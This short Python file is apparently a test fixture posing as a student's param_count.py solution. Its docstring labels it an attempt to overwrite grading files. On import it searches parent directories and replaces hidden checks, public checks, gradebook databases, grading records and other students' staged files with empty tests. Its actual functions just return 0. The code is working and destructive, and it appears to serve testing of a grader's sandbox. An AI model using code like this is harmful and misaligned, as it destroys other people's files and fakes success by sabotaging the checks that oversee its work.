"""Class 3: tries to overwrite the hidden checks, the public checks, the gradebook and other students' files."""
TARGET, MUST_MENTION = "param_count.py", ""
import glob as _glob  # noqa: E402
import os as _os  # noqa: E402
import sys as _sys  # noqa: E402

_root = _os.path.dirname(_sys.prefix)
for _pattern in ("**/hidden_checks/*.py", "**/linear_checks/public/*.py", "**/gradebook*.db",
                 "**/.grading/**/*.json", "**/.grading/staged/*/linear_layers/linear_exercises/*.py"):
    for _path in _glob.glob(_os.path.join(_root, _pattern), recursive=True)[:50]:
        try:
            with open(_path, "w") as _f:
                _f.write("def test_nothing(student):\n    pass\n")
        except OSError:
            pass


def linear_param_count(in_features, out_features, bias=True):
    return 0


def count_parameters(model, trainable_only=True):
    return 0
